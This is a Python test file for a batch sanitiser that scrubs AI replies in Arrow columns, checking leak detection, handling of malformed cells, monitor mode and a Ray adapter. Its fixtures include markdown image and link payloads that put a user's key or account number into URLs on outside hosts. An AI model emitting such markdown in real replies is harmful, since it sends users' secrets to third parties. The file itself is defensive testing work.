"""`rendersafe.batch.sanitize_arrow`: a column of replies sanitised as `Sanitizer.run`
sanitises each, with its conversation read from JSON strings or list-of-struct cells;
and every row gets a result, whatever its cells hold. The Ray adapter answers Ray's
batch contract with pyarrow alone, so it is tested here too (tests/test_ray.py runs it
on Ray)."""

from __future__ import annotations

import inspect
import json
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import rendersafe.batch
from lake_cases import EVIL, KEY, bad_rows, lake, mismatches
from rendersafe import Policy, Sanitizer, sanitize
from rendersafe.batch import (
    NO_FINDINGS,
    PLACEHOLDER,
    RESULT_TYPE,
    ColumnError,
    sanitize_arrow,
    sanitizer_for,
)
from rendersafe.integrations.ray import Sanitize

MESSAGES = [{"role": "user", "content": f"My key is {KEY}, my e-mail dana@example.com."}]
LEAK = f"![k](https://c.example/p.png?k={KEY})"


def test_the_public_surface() -> None:
    assert rendersafe.batch.__all__ == [
        "NO_FINDINGS", "PLACEHOLDER", "RESULT_TYPE", "ColumnError", "ProcessPool", "Row",
        "sanitize_arrow", "sanitize_row", "sanitizer_for",
    ]  # fmt: skip
    assert str(inspect.signature(sanitize_arrow)) == (
        "(replies: 'Any', conversations: 'Any' = None, *, policy: 'Policy | None' = None)"
        " -> 'pa.StructArray'"
    )
    assert list(inspect.signature(Sanitize).parameters) == [
        "policy", "reply", "conversation", "output", "keep",
    ]  # fmt: skip


def _rows(result: pa.StructArray) -> list[dict[str, Any]]:
    return result.to_pylist()  # type: ignore[no-any-return]


@pytest.mark.parametrize("column", ["messages", "conversation"])
def test_a_lake_equals_sanitize_row_by_row(column: str) -> None:
    table = pq.read_table(lake().replies)
    result = sanitize_arrow(table["reply"], table[column])
    assert result.type == RESULT_TYPE
    assert mismatches(table["id"].to_pylist(), _rows(result)) == []
    assert sum(result.field("changed").to_pylist()) > len(table) // 20  # attacks are there


def test_honest_replies_come_back_byte_for_byte() -> None:
    table = pq.read_table(lake().replies).slice(0, 500)
    rows = _rows(sanitize_arrow(table["reply"], table["messages"]))
    honest = [(r, row) for r, row in zip(table["reply"].to_pylist(), rows, strict=True)]
    kept = [(r, row) for r, row in honest if not row["changed"]]
    assert len(kept) > 300
    for reply, row in kept:
        assert row["text"] == reply
        assert row["findings"] == NO_FINDINGS


def test_the_conversation_is_what_catches_a_leak() -> None:
    secret = "![s](https://cdn.example/p.png?u=88231774)"
    policy = Policy(allowed_image_hosts=["cdn.example"])
    said = [[{"role": "user", "content": "My account number is 88231774."}], None]
    rows = _rows(sanitize_arrow([secret, secret], said, policy=policy))
    assert rows[0]["changed"]
    assert "conversation_data" in json.loads(rows[0]["findings"])[0]["reasons"]
    assert rows[1]["text"] == secret  # without it, nothing in the reply alone is a secret


def test_chunked_arrays_and_python_lists_agree() -> None:
    replies = [LEAK, "plain", EVIL]
    conversations = [json.dumps(MESSAGES)] * 3
    chunked = pa.chunked_array([replies[:1], replies[1:]])
    assert sanitize_arrow(chunked, pa.array(conversations)) == sanitize_arrow(
        replies, conversations
    )


def test_map_cells_are_read_as_messages() -> None:
    kind = pa.list_(pa.map_(pa.string(), pa.string()))
    cells = pa.array([[list(MESSAGES[0].items())]], kind)
    (row,) = _rows(sanitize_arrow([LEAK], cells))
    assert row["text"] == sanitize(LEAK, conversation=MESSAGES)


def test_every_bad_row_gets_a_result() -> None:
    cases = bad_rows()
    rows = _rows(sanitize_arrow([r for r, _ in cases], [c for _, c in cases]))
    assert len(rows) == len(cases)
    null, large, cut, number, deep, broken, alone = rows
    assert null == {"text": None, "changed": False, "findings": NO_FINDINGS}
    assert large["text"] == PLACEHOLDER
    assert _reasons(large) == [["input_too_large"]]
    assert KEY not in cut["text"]
    assert _reasons(cut)[0] == ["conversation_unreadable"]
    assert KEY not in number["text"]
    assert deep["text"] == broken["text"] == "honest reply"
    assert _reasons(deep) == _reasons(broken) == [["conversation_unreadable"]]
    assert not deep["changed"]
    assert alone["text"] == sanitize(EVIL)


def _reasons(row: dict[str, Any]) -> list[list[str]]:
    return [entry["reasons"] for entry in json.loads(row["findings"])]


@pytest.mark.parametrize(
    ("cell", "detail"),
    [
        (42, "a value of type int, not a string"),
        (b"\xff\xfe", "bytes that are not UTF-8 (byte 0)"),
        ({"content": "hi"}, "a value of type dict, not a string"),
    ],
)
def test_a_cell_that_is_not_text_is_withheld(cell: object, detail: str) -> None:
    (row, after) = _rows(sanitize_arrow([cell, "next"]))
    assert row["text"] == PLACEHOLDER
    assert row["changed"]
    assert json.loads(row["findings"]) == [
        {"construct": "reply", "action": "withheld", "reasons": ["not_text"], "detail": detail}
    ]
    assert after == {"text": "next", "changed": False, "findings": NO_FINDINGS}


def test_a_binary_column_of_utf8_is_read_as_text() -> None:
    column = pa.array([EVIL.encode(), None], pa.binary())
    assert sanitize_arrow(column).field("text").to_pylist() == [sanitize(EVIL), None]


def test_a_broken_conversation_is_still_read_for_its_secrets() -> None:
    cut = json.dumps(MESSAGES)[:-5]
    (row,) = _rows(sanitize_arrow([f"[x](https://c.example/?q={KEY})"], [cut]))
    assert KEY not in row["text"]
    notes = [e for e in json.loads(row["findings"]) if e["construct"] == "conversation"]
    assert notes[0]["action"] == "read_as_text"


def test_a_conversation_cell_of_a_number_is_read_as_its_text() -> None:
    (row,) = _rows(sanitize_arrow([LEAK], pa.array([7], pa.int64())))
    (note, *_) = json.loads(row["findings"])
    assert note["detail"] == "a value of type int holds no messages"
    assert KEY not in row["text"]


def test_plain_text_conversations_are_read_as_text() -> None:
    said = f"user: my key is {KEY}"
    (row,) = _rows(sanitize_arrow([LEAK], [said]))
    assert row["text"] == sanitize(LEAK, conversation=said)


def test_shadow_mode_reports_and_changes_nothing() -> None:
    policy = Policy(mode="monitor")
    rows = _rows(sanitize_arrow([EVIL, "x" * 600_000], policy=policy))
    assert rows[0]["text"] == EVIL
    assert not rows[0]["changed"]
    assert [f["enforced"] for f in json.loads(rows[0]["findings"])] == [False]
    assert rows[1] == {"text": "x" * 600_000, "changed": False, "findings": NO_FINDINGS}


def test_columns_that_do_not_fit_are_refused() -> None:
    with pytest.raises(ColumnError, match="2 replies but 1 conversations"):
        sanitize_arrow(["a", "b"], ["[]"])
    with pytest.raises(ColumnError, match="not one reply"):
        sanitize_arrow("a reply")
    with pytest.raises(ColumnError, match="not int"):
        sanitize_arrow(42)


def test_one_sanitizer_per_policy_serves_every_batch() -> None:
    first = sanitizer_for(Policy(allowed_image_hosts=["cdn.example"]))
    assert sanitizer_for(Policy(allowed_image_hosts=["cdn.example"])) is first
    assert sanitizer_for(Policy()) is not first


def test_the_ray_transform_appends_a_result_column() -> None:
    table = pa.table({"id": ["a", "b"], "reply": [EVIL, "fine"], "messages": [None, None]})
    out = Sanitize(reply="reply", conversation="messages", output="safe")(table)
    assert out.column_names == ["id", "reply", "messages", "safe"]
    assert out["safe"].to_pylist()[0]["text"] == sanitize(EVIL)
    with pytest.raises(ColumnError, match="no column 'text'"):
        Sanitize(reply="text")(table)


_CELLS = st.one_of(
    st.none(),
    st.integers(),
    st.text(max_size=60),
    st.sampled_from([EVIL, LEAK, f"see [a](https://c.example/?q={KEY}) and text"]),
)
_CONVERSATIONS = st.one_of(
    st.none(),
    st.text(max_size=40),
    st.just(json.dumps(MESSAGES)),
    st.just(json.dumps(MESSAGES)[:-3]),
    st.lists(
        st.fixed_dictionaries(
            {"role": st.sampled_from(["user", "tool"]), "content": st.text(max_size=30)}
        ),
        max_size=3,
    ),
)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(_CELLS, _CONVERSATIONS), max_size=12))
def test_any_batch_gives_one_result_per_row(cells: list[tuple[object, object]]) -> None:
    replies, conversations = [r for r, _ in cells], [c for _, c in cells]
    rows = _rows(sanitize_arrow(replies, conversations))
    assert len(rows) == len(cells)
    sanitizer = Sanitizer()
    for (reply, conversation), row in zip(cells, rows, strict=True):
        json.loads(row["findings"])
        if reply is None:
            assert row["text"] is None
        elif not isinstance(reply, str):
            assert row["text"] == PLACEHOLDER
        elif (said := _as_read(conversation)) is not _BROKEN:
            assert row["text"] == sanitizer.run(reply, conversation=said).text
        assert row["changed"] == (row["text"] != reply)


_BROKEN = object()


def _as_read(cell: object) -> Any:
    """The conversation a cell holds, as a caller of `sanitize` would pass it."""
    if not isinstance(cell, str) or not cell.lstrip().startswith(("[", "{")):
        return cell
    try:
        return json.loads(cell)
    except ValueError:
        return _BROKEN
